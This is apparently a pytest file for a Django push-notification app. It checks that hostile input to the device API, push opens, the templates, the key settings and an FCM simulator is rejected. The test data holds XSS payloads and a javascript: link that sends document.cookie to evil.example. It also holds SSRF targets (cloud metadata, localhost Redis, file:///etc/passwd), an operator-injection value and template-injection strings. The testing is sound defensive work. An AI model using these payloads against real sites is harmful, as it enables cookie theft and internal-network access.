"""Hostile and careless input against issue 11's push surfaces: the devices API, push opens, the
FCM simulator, templates and settings. Every bad input is a 4xx naming the problem, never a 500,
another project's data, a secret shown again, or a server-side request somewhere it should not go."""

from __future__ import annotations

import json
import uuid

import pytest
from django.test import Client
from django.urls import reverse

from campaigns import channel_sending
from campaigns.models import Channel, Message, MessageKind
from controlpanel.models import AuditEntry, Role
from controlpanel.services import Actor, create_api_key
from push import services
from push.models import PushSettings, PushTemplate
from subscribers.models import Device
from tests.factories import ProjectFactory, SubscriberFactory
from tests.mail.test_hostile_input import LIQUID_DOUBLING, LIQUID_LOOP
from tests.push.conftest import DeviceFactory, PushTemplateFactory

pytestmark = pytest.mark.django_db
DEEP = b"[" * 100_000 + b"]" * 100_000


@pytest.fixture(autouse=True)
def _no_kick(monkeypatch):
    monkeypatch.setattr(channel_sending, "kick", lambda: None)


class Api:
    def __init__(self, project):
        _, raw = create_api_key(project=project, name="app", actor=Actor(label="t"))
        self.client = Client(raise_request_exception=False)
        self.auth = {"Authorization": f"Bearer {raw}"}

    def post(self, path: str, body, raw: bool = False):
        data = body if raw else json.dumps(body)
        return self.client.post(path, data, content_type="application/json", headers=self.auth)

    def get(self, path: str, params: dict):
        return self.client.get(path, params, headers=self.auth)

    def delete(self, path: str):
        return self.client.delete(path, headers=self.auth)


@pytest.fixture
def api(project):
    return Api(project)


@pytest.fixture
def ana(project):
    return SubscriberFactory(project=project, name="Ana")


def push_row(project, subscriber=None) -> Message:
    return Message.objects.create(
        project=project,
        subscriber=subscriber or SubscriberFactory(project=project),
        channel=Channel.PUSH,
        kind=MessageKind.TEMPLATE,
        content={"title": "Hi"},
    )


# --- cross-project ids in the API ----------------------------------------------------------------


def test_another_projects_subscriber_device_and_push_are_404(api, project, ana):
    other = ProjectFactory()
    stranger = SubscriberFactory(project=other, external_id="crm-9")
    theirs = DeviceFactory(subscriber=stranger, token="their-token")
    their_push = push_row(other, stranger)

    register = api.post(
        "/api/v1/devices",
        {"subscriber": {"id": str(stranger.public_id)}, "token": "t1", "platform": "android"},
    )
    assert register.status_code == 404
    by_external = api.post(
        "/api/v1/devices", {"subscriber": {"external_id": "crm-9"}, "token": "t1", "platform": "ios"}
    )
    assert by_external.status_code == 404
    assert api.get("/api/v1/devices", {"subscriber": str(stranger.public_id)}).status_code == 404
    assert api.delete(f"/api/v1/devices/{theirs.public_id}").status_code == 404
    assert api.post("/api/v1/devices/unregister", {"token": "their-token"}).status_code == 404
    assert api.post("/api/v1/push/opened", {"message": str(their_push.public_id)}).status_code == 404
    # My push opened on their device's token: the token is not mine either.
    mine = push_row(project, ana)
    assert (
        api.post("/api/v1/push/opened", {"message": str(mine.public_id), "token": "their-token"}).status_code
        == 404
    )
    theirs.refresh_from_db()
    their_push.refresh_from_db()
    mine.refresh_from_db()
    assert theirs.removed_at is None and their_push.opened_at is None and mine.opened_at is None
    assert not Device.objects.filter(project=project).exists()


def test_registering_another_projects_token_makes_my_own_device(api, project, ana):
    # Tokens are unique per project: the same install in two projects is two rows; mine never
    # moves theirs.
    theirs = DeviceFactory(subscriber=SubscriberFactory(project=ProjectFactory()), token="shared-token")
    response = api.post(
        "/api/v1/devices",
        {"subscriber": {"id": str(ana.public_id)}, "token": "shared-token", "platform": "android"},
    )
    assert response.status_code == 201
    theirs.refresh_from_db()
    assert theirs.subscriber.project_id != project.pk and theirs.removed_at is None


def test_an_email_message_is_no_push_to_open(api, project, ana):
    message = push_row(project, ana)
    Message.objects.filter(pk=message.pk).update(channel=Channel.EMAIL)
    assert api.post("/api/v1/push/opened", {"message": str(message.public_id)}).status_code == 404


# --- malformed bodies ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        {"subscriber": {"id": "ana"}, "token": "t", "platform": "android"},
        {"subscriber": "x", "token": "t", "platform": "android"},
        {"subscriber": {}, "token": "t", "platform": "android"},
        {"subscriber": {"id": None}, "token": "t", "platform": "android"},
        {"token": 12345678901234567890123456789, "platform": "android"},
        {"subscriber": {"phone": "1" * 10_000}, "token": "t", "platform": "android"},
        {"subscriber": {"external_id": "a\x00b"}, "token": "t", "platform": "android"},
        {"subscriber": {"external_id": "\ud800"}, "token": "t", "platform": "android"},
        {"token": "t\x00", "platform": "android"},
        {"token": "x" * 100_000, "platform": "android"},
        {"token": ["t"], "platform": "android"},
        {"token": "t", "platform": "windows-phone"},
        {"token": "t", "platform": "android", "push_enabled": "yes"},
        {"token": "t", "platform": "android", "time_zone": "Mars/Olympus"},
        {"token": "t", "platform": "android", "time_zone": "\x00"},
        {"token": "t", "platform": "android", "language": "<script>"},
        {"token": "t", "platform": "android", "app_version": "1" * 10_000},
        {"token": "t", "platform": "android", "project": "someone-else"},
    ],
)
def test_bad_device_bodies_are_422_or_404_and_write_nothing(api, ana, body):
    body = {"subscriber": {"id": str(ana.public_id)}, **body}
    response = api.post("/api/v1/devices", body)
    assert response.status_code in (404, 422), (response.status_code, response.content[:300])
    assert not Device.objects.exists()


@pytest.mark.parametrize(
    "raw",
    [b"", b"null", b"[]", b"{", b"\xff\xfe", DEEP, b'{"token": "t", "platform": "android"}' * 1],
)
def test_unreadable_device_bodies_are_4xx(api, raw):
    response = api.post("/api/v1/devices", raw, raw=True)
    assert 400 <= response.status_code < 500, response.status_code
    assert not Device.objects.exists()


@pytest.mark.parametrize(
    "params",
    [
        {"subscriber": "nope"},
        {"subscriber": str(uuid.uuid4()), "limit": "99999999999999999999999"},
        {"subscriber": str(uuid.uuid4()), "limit": "-1"},
        {"subscriber": str(uuid.uuid4()), "limit": "1e9"},
        {},
    ],
)
def test_bad_device_list_queries_are_4xx(api, params):
    assert 400 <= api.get("/api/v1/devices", params).status_code < 500


@pytest.mark.parametrize(
    "body",
    [
        {"message": "not-a-uuid"},
        {"message": 1},
        {"message": None},
        {"message": str(uuid.uuid4()), "token": ""},
        {"message": str(uuid.uuid4()), "token": "a b"},
        {"message": str(uuid.uuid4()), "token": {"$ne": 1}},
        {"message": str(uuid.uuid4()), "extra": 1},
    ],
)
def test_bad_open_reports_are_4xx(api, body):
    response = api.post("/api/v1/push/opened", body)
    assert response.status_code in (404, 422), response.status_code


def test_a_huge_body_is_refused_before_it_is_read(api, ana, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    body = {
        "subscriber": {"id": str(ana.public_id)},
        "token": "t",
        "platform": "android",
        "app_version": "x" * 20_000,
    }
    response = api.post("/api/v1/devices", body)
    assert 400 <= response.status_code < 500
    assert not Device.objects.exists()


def test_many_devices_of_one_subscriber_list_within_the_limit(api, project, ana):
    Device.objects.bulk_create(
        Device(project=project, subscriber=ana, token=f"tok-{i}", platform="android") for i in range(10_000)
    )
    response = api.get("/api/v1/devices", {"subscriber": str(ana.public_id), "limit": 200})
    assert response.status_code == 200
    body = response.json()
    assert len(body["devices"]) == 200 and body["more"] is True


# --- templates -----------------------------------------------------------------------------------


def url(project, name, *args):
    return reverse(f"push:{name}", args=[project.slug, *args])


def form_data(**changes):
    return {"name": "t", "title": "Hi", "body": "b", "image_url": "", "link": "", "data_text": "", **changes}


@pytest.fixture
def marketer_client(client, member_of):
    client.force_login(member_of(Role.MARKETER))
    return client


@pytest.mark.parametrize(
    "data_text",
    [
        "\n".join(f"k{i}=v" for i in range(10_000)),
        json.dumps({f"k{i}": "v" for i in range(10_000)}),
        json.dumps({"k": 1}),
        json.dumps(["k"]),
        "[" * 10_000,
        "{" + "[" * 100_000,
        "noequals",
        "google.x=1",
        "=v",
    ],
)
def test_bad_data_is_a_form_error(marketer_client, project, data_text):
    response = marketer_client.post(url(project, "new"), form_data(data_text=data_text))
    assert response.status_code in (200, 422)
    assert "data_text" in response.context["form"].errors
    assert not PushTemplate.objects.exists()


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("image_url", "http://169.254.169.254/latest/meta-data/"),
        ("image_url", "javascript:alert(1)"),
        ("link", "javascript:alert(document.cookie)"),
        ("link", " Java\tScript:alert(1)"),
        ("link", "data:text/html,<script>alert(1)</script>"),
        ("title", "{% for i in (1..10) %}"),
        ("title", "{{ secrets.key }}"),
        ("body", ""),
    ],
)
def test_bad_template_fields_are_form_errors(marketer_client, project, field, value):
    changes = {field: value, **({"title": ""} if field == "body" else {})}
    response = marketer_client.post(url(project, "new"), form_data(**changes))
    assert response.status_code in (200, 422)
    assert response.context["form"].errors
    assert not PushTemplate.objects.exists()


def _send(project, subscriber, template, values):
    return services.send_push(
        project=project, subscriber=subscriber, template=template, actor=Actor(label="t"), values=values
    )


@pytest.mark.parametrize(
    ("field", "bad", "good"),
    [
        ("link", "javascript:fetch('//evil.example?'+document.cookie)", "myapp://orders/42"),
        ("link", "data:text/html,<script>alert(1)</script>", "https://shop.example/orders/42"),
        ("image_url", "http://127.0.0.1:8000/admin/", "https://cdn.example/a.png"),
    ],
)
def test_a_link_or_image_that_renders_unsafe_is_refused_at_send(project, ana, field, bad, good):
    from campaigns.services import SendRefused

    template = PushTemplateFactory(project=project, **{field: "{{ values.x }}"})
    DeviceFactory(subscriber=ana)
    with pytest.raises(SendRefused):
        _send(project, ana, template, {"x": bad})
    assert not Message.objects.exists()
    _send(project, ana, template, {"x": good})
    assert Message.objects.count() == 1


@pytest.mark.parametrize("body", [LIQUID_LOOP, LIQUID_DOUBLING])
def test_liquid_that_loops_or_explodes_is_bounded_in_the_preview(marketer_client, project, ana, body):
    DeviceFactory(subscriber=ana)
    response = marketer_client.post(url(project, "preview"), form_data(body=body))
    assert response.status_code in (200, 422)
    assert len(response.content) < 2_000_000


SCRIPT = '<script>alert("x")</script>'


def test_stored_markup_is_escaped_in_push_pages(marketer_client, project, ana):
    template = PushTemplateFactory(project=project, name=SCRIPT, title=SCRIPT, body=SCRIPT, link=SCRIPT)
    ana.name = SCRIPT
    ana.save()
    DeviceFactory(subscriber=ana)
    for page in (url(project, "templates"), url(project, "edit", template.public_id)):
        assert SCRIPT not in marketer_client.get(page).content.decode(), page


# --- settings: the key, roles, SSRF through the key's token URL ----------------------------------


def test_marketers_and_viewers_cannot_open_push_settings(client, project, member_of, service_account_json):
    for role in (Role.MARKETER, Role.VIEWER):
        client.force_login(member_of(role))
        assert client.get(url(project, "settings")).status_code == 403
        response = client.post(
            url(project, "settings"), {"mode": "fcm", "service_account_text": service_account_json}
        )
        assert response.status_code == 403
    assert not PushSettings.objects.filter(project=project).exclude(service_account="").exists()


@pytest.mark.parametrize(
    "token_uri",
    [
        "http://169.254.169.254/computeMetadata/v1/",
        "http://127.0.0.1:6379/",
        "https://evil.example/token",
        "file:///etc/passwd",
    ],
)
def test_a_key_whose_token_url_is_not_googles_is_refused(
    owner_client, project, service_account_json, token_uri
):
    # google-auth POSTs the signed assertion to the key's token_uri: another URL would make this
    # server send requests (and a signed grant) wherever the pasted JSON says.
    key = json.dumps(json.loads(service_account_json) | {"token_uri": token_uri})
    response = owner_client.post(url(project, "settings"), {"mode": "fcm", "service_account_text": key})
    assert response.status_code in (200, 422)
    assert response.context["form"].errors
    assert not PushSettings.objects.filter(project=project).exclude(service_account="").exists()


def test_a_rejected_key_is_not_echoed_nor_audited(owner_client, project, service_account_json):
    private_key = json.loads(service_account_json)["private_key"]
    bad = json.dumps(json.loads(service_account_json) | {"type": "user"})
    page = owner_client.post(url(project, "settings"), {"mode": "fcm", "service_account_text": bad})
    assert "PRIVATE KEY" not in page.content.decode()
    owner_client.post(url(project, "settings"), {"mode": "fcm", "service_account_text": service_account_json})
    page = owner_client.get(url(project, "settings")).content.decode()
    assert "PRIVATE KEY" not in page and private_key[40:80] not in page
    audit = json.dumps(list(AuditEntry.objects.filter(project=project).values("changes")), default=str)
    assert "PRIVATE KEY" not in audit


@pytest.mark.parametrize("size", [64 * 1024 + 1, 5 * 1024 * 1024])
def test_a_huge_key_file_is_refused(owner_client, project, size):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("key.json", b"{" + b" " * size + b"}", content_type="application/json")
    response = owner_client.post(url(project, "settings"), {"mode": "fcm", "service_account_file": upload})
    assert response.status_code in (200, 422)
    assert "service_account_file" in response.context["form"].errors


# --- the push simulator ----------------------------------------------------------------------------

SEND = "/simulator/fcm/v1/projects/simulator/messages:send"


@pytest.fixture
def simulator(settings):
    settings.SIMULATOR_ENABLED = True
    settings.ROOT_URLCONF = "push.simulator.full_urls"


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"[]",
        b"{",
        DEEP,
        b'{"message": null}',
        b'{"message": {"token": 5}}',
        b'{"message": {"token": "sim-ana", "data": {"k": 1}}}',
        b'{"message": {"token": "sim-ana", "data": '
        + json.dumps({f"k{i}": "v" for i in range(10_000)}).encode()
        + b', "notification": {"title": ["x"]}}}',
        b'{"message": {"token": "sim-ana", "notification": {"title": "\\u0000"}}}',
        b'{"message": {"token": "sim-ana", "notification": {"title": "\\ud800"}}}',
        b'{"message": {"token": "sim-ana", "android": 1e999}}',
        b'{"message": {"token": "sim-ana"}, "validate_only": 123456789012345678901234567890}',
    ],
)
def test_the_fcm_simulator_answers_garbage_with_fcm_errors(simulator, project, ana, body):
    from push.models import SimulatedPush

    DeviceFactory(subscriber=ana, token="sim-ana")
    client = Client(raise_request_exception=False)
    response = client.post(SEND, body, content_type="application/json", headers={"Authorization": "Bearer x"})
    assert response.status_code == 400, (response.status_code, response.content[:300])
    assert response.json()["error"]["status"] == "INVALID_ARGUMENT"
    assert not SimulatedPush.objects.exists()


def test_the_simulator_page_escapes_pushes_and_opens_only_its_projects_pushes(
    simulator, client, project, ana, member_of
):
    from push.models import SimulatedPush

    DeviceFactory(subscriber=ana, token="sim-ana")
    ana.name = SCRIPT
    ana.save()
    body = {
        "message": {
            "token": "sim-ana",
            "notification": {"title": SCRIPT, "body": SCRIPT},
            "data": {"link": "javascript:alert(1)", "message_id": str(uuid.uuid4())},
        }
    }
    sent = Client().post(
        SEND, json.dumps(body), content_type="application/json", headers={"Authorization": "Bearer x"}
    )
    assert sent.status_code == 200
    theirs = SimulatedPush.objects.create(
        project=ProjectFactory(), fcm_name="projects/simulator/messages/theirs", token="sim-x", payload={}
    )
    client.force_login(member_of(Role.MARKETER))
    page = client.get("/simulator/push/", {"project": project.slug}).content.decode()
    assert SCRIPT not in page and 'href="javascript:' not in page
    assert (
        client.post(f"/simulator/push/open/?project={project.slug}", {"push": theirs.fcm_name}).status_code
        == 404
    )
    theirs.refresh_from_db()
    assert theirs.opened_at is None


@pytest.mark.parametrize(
    "text",
    ["[" * 100_000, '{"type": "service_account", "x": ' + "[" * 100_000, "\x00", '{"type": 5}', "1e999999"],
)
def test_a_pasted_key_that_is_not_a_key_is_a_form_error(owner_client, project, text):
    response = owner_client.post(url(project, "settings"), {"mode": "fcm", "service_account_text": text})
    assert response.status_code in (200, 422)
    assert response.context["form"].errors
    assert not PushSettings.objects.filter(project=project).exclude(service_account="").exists()


@pytest.mark.parametrize("data_text", ['{"a": ' + "[" * 100_000, '{"a": "' + "x" * 1_000_000 + '"}'])
def test_data_nested_or_huge_is_a_form_error(marketer_client, project, data_text):
    response = marketer_client.post(url(project, "new"), form_data(data_text=data_text))
    assert response.status_code in (200, 422)
    assert response.context["form"].errors
    assert not PushTemplate.objects.exists()


def test_viewers_neither_add_simulated_devices_nor_open_pushes(simulator, client, project, ana, viewer):
    from push.models import SimulatedPush

    DeviceFactory(subscriber=ana, token="sim-ana")
    push = SimulatedPush.objects.create(
        project=project, fcm_name="projects/simulator/messages/1", token="sim-ana", payload={}
    )
    client.force_login(viewer)
    assert client.get("/simulator/push/", {"project": project.slug}).status_code == 200
    added = client.post(f"/simulator/push/?project={project.slug}", {"subscriber": str(ana.public_id)})
    assert added.status_code == 403
    assert (
        client.post(f"/simulator/push/open/?project={project.slug}", {"push": push.fcm_name}).status_code
        == 403
    )
    assert Device.objects.filter(project=project).count() == 1
    template = PushTemplateFactory(project=project)
    sent = client.post(url(project, "test_send", template.public_id), {"subscriber": str(ana.public_id)})
    assert sent.status_code == 403
    assert not Message.objects.exists()


@pytest.mark.parametrize(
    ("header", "wait"),
    [("1e400", None), ("nan", None), ("-5", 0.0), ("1e12", 3600.0), ("30", 30.0), ("Wed, 21 Oct 2015", None)],
)
def test_a_retry_after_no_datetime_can_hold_is_bounded(header, wait):
    from push import fcm

    result = fcm.classify(429, {"retry-after": header}, b"")
    assert result.kind == "retry"
    assert result.retry_after == wait


def test_a_test_push_to_another_projects_subscriber_sends_nothing(marketer_client, project):
    template = PushTemplateFactory(project=project)
    stranger = SubscriberFactory(project=ProjectFactory())
    DeviceFactory(subscriber=stranger)
    response = marketer_client.post(
        url(project, "test_send", template.public_id), {"subscriber": str(stranger.public_id)}
    )
    # The page comes back with "Choose a subscriber with an active push device."
    page = marketer_client.get(response["Location"]).content.decode()
    assert "Choose a subscriber" in page
    assert not Message.objects.exists()
